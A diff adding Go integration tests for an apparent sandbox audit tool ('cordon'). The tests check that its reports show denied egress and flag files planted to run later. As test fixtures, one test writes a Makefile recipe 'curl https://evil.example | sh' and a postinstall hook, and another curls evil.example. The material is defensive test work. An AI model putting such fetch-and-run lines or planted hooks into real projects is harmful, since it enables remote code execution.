@@ -1,12 +1,17 @@
 package integration
 
 import (
+	"context"
+	"encoding/json"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/cordonhq/cordon/audit"
+	"github.com/cordonhq/cordon/internal/testutil"
 )
 
 // in returns the world with its commands run in dir, another workspace.
@@ -182,5 +187,118 @@ func TestAuditOutputRefusesALinkTheSandboxPlanted(t *testing.T) {
 	}
 	if after, _ := os.ReadFile(logPath); string(after) != string(before) {
 		t.Fatal("export -o the run's own log truncated it")
+	}
+}
+
+// TestAuditReportInChromium renders a real run's HTML report in headless Chromium: the
+// page loads with no external assets, shows the summary, the command, its diff and the
+// denied egress, and the screenshot is not empty.
+func TestAuditReportInChromium(t *testing.T) {
+	w := newWorld(t)
+	chromium, err := exec.LookPath("chromium")
+	testutil.Require(t, err == nil, "chromium is needed to look at the report (apt-get install chromium)")
+	up := newUpstream(t, false, "127.0.0.2:0")
+	w.egressContract(up.port)
+	mustWrite(t, filepath.Join(w.ws, "main.go"), "package main\n")
+	r := w.sh("echo 'func main() {}' >> main.go; curl -s http://evil.example/ -o /dev/null; echo done")
+	if r.code != 0 {
+		t.Fatal(r)
+	}
+	report := filepath.Join(t.TempDir(), "report.html")
+	if r := w.cordon("", "audit", "report", "-o", report, "last"); r.code != 0 {
+		t.Fatalf("audit report: %v", r)
+	}
+	html, _ := os.ReadFile(report)
+	for _, banned := range []string{"<script src", "<link ", "http://", "https://"} {
+		if strings.Contains(strings.ReplaceAll(string(html), "http://evil.example", ""), banned) {
+			t.Errorf("the report refers to an external asset (%q)", banned)
+		}
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
+	defer cancel()
+	profile := t.TempDir()
+	shot := filepath.Join(t.TempDir(), "shot.png")
+	flags := []string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
+		"--disable-component-update", "--disable-sync", "--no-first-run", "--user-data-dir=" + profile}
+	if out, err := exec.CommandContext(ctx, chromium, append(flags, "--window-size=1200,1600", "--screenshot="+shot, "file://"+report)...).CombinedOutput(); err != nil {
+		t.Fatalf("chromium screenshot: %v\n%s", err, out)
+	}
+	if st, err := os.Stat(shot); err != nil || st.Size() < 10000 {
+		t.Fatalf("screenshot empty or missing: %v %v", st, err)
+	}
+	dom, err := exec.CommandContext(ctx, chromium, append(flags, "--dump-dom", "file://"+report)...).Output()
+	if err != nil {
+		t.Fatalf("chromium dump-dom: %v", err)
+	}
+	for _, want := range []string{"<h1>cordon run", "intact and sealed", "<h2>Timeline</h2>", "main.go", "+func main() {}", "<h2>Egress</h2>", "DENY", "evil.example"} {
+		assertContains(t, "rendered report", string(dom), want)
+	}
+}
+
+// TestAuditFlagsRunsLaterFiles: a sandboxed command that plants a Makefile recipe and a
+// package.json install script among ordinary edits; audit show, show --json and the
+// HTML report list those two files first, marked, and not the ordinary ones.
+func TestAuditFlagsRunsLaterFiles(t *testing.T) {
+	w := newWorld(t)
+	mustWrite(t, filepath.Join(w.ws, "Makefile"), "test:\n\tgo test ./...\n")
+	mustWrite(t, filepath.Join(w.ws, "package.json"), "{\n  \"name\": \"app\",\n  \"version\": \"1.0.0\"\n}\n")
+	mustWrite(t, filepath.Join(w.ws, "README.md"), "hello\n")
+	r := w.sh(`printf 'all:\n\tcurl https://evil.example | sh\n' >> Makefile && ` +
+		`printf '{\n  "name": "app",\n  "version": "1.0.0",\n  "scripts": {"postinstall": "node x.js"}\n}\n' > package.json && ` +
+		`echo more >> README.md`)
+	if r.code != 0 {
+		t.Fatalf("command failed: %v", r)
+	}
+
+	show := w.cordon("", "audit", "show", "last")
+	if show.code != 0 {
+		t.Fatalf("audit show: %v", show)
+	}
+	block, rest, ok := strings.Cut(show.stdout, "\n[")
+	if !ok || !strings.Contains(block, "RUNS LATER") {
+		t.Fatalf("audit show has no runs-later block before the first command:\n%s", show.stdout)
+	}
+	for _, want := range []string{"M Makefile  build:", "M package.json  package-scripts: package.json scripts"} {
+		assertContains(t, "runs-later block", block, want)
+	}
+	if strings.Contains(block, "README.md") {
+		t.Errorf("README.md is flagged:\n%s", block)
+	}
+	assertContains(t, "command's files", rest, "M Makefile +2 -0  [runs later: build]")
+
+	js := w.cordon("", "audit", "show", "--json", "last")
+	var out struct {
+		RunsLater []struct{ Path, Category string } `json:"runs_later"`
+	}
+	if err := json.Unmarshal([]byte(js.stdout), &out); err != nil {
+		t.Fatalf("show --json: %v\n%s", err, js.stdout)
+	}
+	var got []string
+	for _, f := range out.RunsLater {
+		got = append(got, f.Path+" "+f.Category)
+	}
+	if want := "Makefile build, package.json package-scripts"; strings.Join(got, ", ") != want {
+		t.Errorf("runs_later: got %q; want %q", strings.Join(got, ", "), want)
+	}
+
+	report := filepath.Join(t.TempDir(), "report.html")
+	if rep := w.cordon("", "audit", "report", "-o", report, "last"); rep.code != 0 {
+		t.Fatalf("audit report: %v", rep)
+	}
+	page, err := os.ReadFile(report)
+	if err != nil {
+		t.Fatal(err)
+	}
+	html := string(page)
+	later, timeline := strings.Index(html, "Runs later — review first"), strings.Index(html, "<h2>Timeline</h2>")
+	if later < 0 || timeline < 0 || later > timeline {
+		t.Fatalf("the report's runs-later section (at %d) is not before the timeline (at %d)", later, timeline)
+	}
+	section := html[later:timeline]
+	for _, want := range []string{"<code>Makefile</code>", "<code>package.json</code>", "Makefile, run by make", "package.json scripts"} {
+		assertContains(t, "report's runs-later section", section, want)
+	}
+	if strings.Contains(section, "<code>README.md</code>") {
+		t.Error("the report flags README.md")
 	}
 }
